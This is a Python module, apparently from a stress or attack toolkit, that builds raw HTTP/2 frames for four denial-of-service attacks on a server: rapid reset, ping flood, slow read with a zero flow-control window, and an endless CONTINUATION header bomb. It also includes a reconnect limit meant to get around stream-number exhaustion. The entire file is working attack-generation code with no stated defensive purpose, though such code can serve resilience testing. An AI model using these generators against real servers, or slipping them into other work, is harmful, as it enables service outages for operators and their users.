"""Attacks on an HTTP/2 port, frame by frame (RFC 9113, headers after RFC 7541 without compression)."""

from __future__ import annotations

import struct
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass

DATA, HEADERS, RST, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CANCEL, INITIAL_WINDOW_SIZE = 8, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PIECES = 20_000
"""An attacker dials again after so many: streams of a connection are numbered up to 2^31."""


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """RFC 9113, section 4.1."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def text(value: bytes) -> bytes:
    """RFC 7541, section 5.2, without Huffman coding."""
    if len(value) < 127:
        return bytes([len(value)]) + value
    left, out = len(value) - 127, bytearray([127])
    while left >= 128:
        out.append(left % 128 + 128)
        left //= 128
    return bytes([*out, left]) + value


def block(path: str) -> bytes:
    """The headers of a call, each a literal that is not indexed."""
    named = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path.encode()), (b":authority", b"a"),
             (b"content-type", b"application/grpc"), (b"te", b"trailers")]  # fmt: skip
    return b"".join(b"\0" + text(name) + text(value) for name, value in named)


@dataclass(frozen=True)
class Attack:
    """`piece(headers, n)` is the n-th thing sent on a connection; `window`: bytes of an answer that it lets come."""

    piece: Callable[[bytes, int], bytes]
    window: int = 65535

    def opening(self) -> bytes:
        """What a connection begins with."""
        return PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, self.window))

    def stream(self, headers: bytes, pieces: int) -> Iterator[bytes]:
        """All that is sent on a connection: the opening, then so many pieces."""
        yield self.opening()
        for at in range(pieces):
            yield self.piece(headers, at)


def _rapid_reset(headers: bytes, at: int) -> bytes:
    stream = 2 * at + 1
    return frame(HEADERS, END_HEADERS, stream, headers) + frame(RST, 0, stream, struct.pack(">I", CANCEL))


def _ping_flood(headers: bytes, at: int) -> bytes:
    return frame(PING, 0, 0, struct.pack(">Q", at)) * 32


def _slow_read(headers: bytes, at: int) -> bytes:
    """Calls whose answers have no window to come through."""
    return frame(HEADERS, END_HEADERS, 2 * at + 1, headers) + frame(DATA, END_STREAM, 2 * at + 1, bytes(5))


def _header_bomb(headers: bytes, at: int) -> bytes:
    """Headers without end."""
    more = frame(CONTINUATION, 0, 1, b"\0" + text(b"x%d" % at) + text(b"y" * 8000))
    return frame(HEADERS, 0, 1, headers) + more if at == 0 else more


ATTACKS: Mapping[str, Attack] = {
    "rapid reset": Attack(_rapid_reset), "ping flood": Attack(_ping_flood),
    "slow read": Attack(_slow_read, window=0), "header bomb": Attack(_header_bomb),
}  # fmt: skip
